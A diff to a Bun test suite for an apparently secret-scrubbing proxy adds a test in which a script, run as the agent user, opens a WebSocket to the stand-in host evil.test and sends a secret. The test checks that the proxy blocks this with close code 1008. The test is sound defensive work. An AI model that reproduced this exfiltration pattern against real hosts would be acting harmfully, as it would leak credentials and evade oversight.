@@ -7,9 +7,10 @@
 // real server would read, not on masked wire bytes.
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { randomBytes } from "node:crypto";
-import { mkdtempSync, rmSync } from "node:fs";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { asAgent, openToAgent } from "../support/attacker.ts";
 import { type HttpConnection, type RawResponse, readResponse, readWsFrame, type WsMessage, wsFrame } from "../support/proxy-client.ts";
 import { type Broker, startBroker } from "../support/upgrade-broker.ts";
 
@@ -219,6 +220,50 @@ describe("frames a client must never send: closed with the RFC's code, nothing r
     });
   });
 });
+
+// A real client: Bun's WebSocket (which offers permessage-deflate by default) through the proxy,
+// run as the agent user, the way an agent's own code would open one.
+const REAL_CLIENT = `
+const [proxy, ca, secret] = process.argv.slice(2);
+const open = (url) => new Promise((resolve) => {
+  const ws = new WebSocket(url, { proxy, tls: { ca }, headers: { Authorization: "Bearer placeholder" } });
+  const got = [];
+  ws.onmessage = (e) => got.push(String(e.data));
+  ws.onopen = () => resolve({ ws, got, opened: true });
+  ws.onerror = () => resolve({ ws, got, opened: false });
+});
+const closed = (ws) => new Promise((resolve) => { ws.onclose = (e) => resolve({ code: e.code, reason: e.reason }); setTimeout(() => resolve({ code: -1 }), 8000); });
+const out = {};
+const a = await open("wss://api.fake.test/ws/real-echo");
+a.ws.send("leak-text");
+a.ws.send("plain hello");
+await Bun.sleep(500);
+out.echo = a.got;
+a.ws.close(1000);
+const b = await open("wss://evil.test/ws/real-leak");
+out.evilOpened = b.opened;
+const done = closed(b.ws);
+b.ws.send("first " + secret);
+out.evilClose = await done;
+console.log(JSON.stringify(out));
+process.exit(0);
+`;
+
+test("a real client (Bun's WebSocket through the proxy, as the agent): echo scrubbed, a value to another host closed with 1008", async () => {
+  const script = join(scratch, "real-client.mjs");
+  writeFileSync(script, REAL_CLIENT);
+  openToAgent(scratch);
+  const proc = Bun.spawn(asAgent([process.execPath, script, `http://${B.token}:default@127.0.0.1:${B.server.mitmPort}`, B.trust[0]!, B.secret]), { stdout: "pipe", stderr: "pipe", env: { PATH: process.env.PATH ?? "/usr/bin:/bin" } });
+  const [stdout, stderr] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
+  B.outputs.push(stdout, stderr);
+  const out = JSON.parse(stdout.trim().split("\n").pop() ?? "{}") as { echo: string[]; evilOpened: boolean; evilClose: { code: number; reason: string } };
+  expect(out.echo, stderr).toEqual(['{"token":"[REDACTED:FAKE_KEY]","é":"ü"}', "plain hello"]);
+  expect(out.evilOpened).toBe(true);
+  expect(out.evilClose.code).toBe(1008);
+  await Bun.sleep(100);
+  expectNothingOf(receivedOn("/ws/real-leak"));
+  expect(B.wsReceived.filter((r) => r.path === "/ws/real-leak" && r.opcode !== 0x8)).toEqual([]);
+}, 30_000);
 
 test("blocked messages are in the request log as blocked, with the key and never the value", async () => {
   await Bun.sleep(200);
